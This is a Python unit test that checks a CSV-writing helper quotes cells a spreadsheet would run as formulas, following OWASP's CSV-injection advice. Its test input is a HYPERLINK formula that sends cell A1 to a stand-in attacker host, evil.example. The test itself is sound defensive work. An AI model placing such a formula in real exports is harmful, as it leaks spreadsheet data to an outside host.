"""CSV cells a spreadsheet would run as a formula are quoted (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io

from coffeemug.csv_cells import neutralise, write_csv

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'


def test_cells_a_spreadsheet_would_run_are_quoted() -> None:
    for cell in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    for cell in ("Solar roofs", "", "a=b", 42, -3.5, 0.0):
        assert neutralise(cell) == cell
    assert neutralise(None) == ""
    rows = list(csv.reader(io.StringIO(write_csv(["title", "n"], [[FORMULA, -1]]))))
    assert rows == [["title", "n"], ["'" + FORMULA, "-1"]]
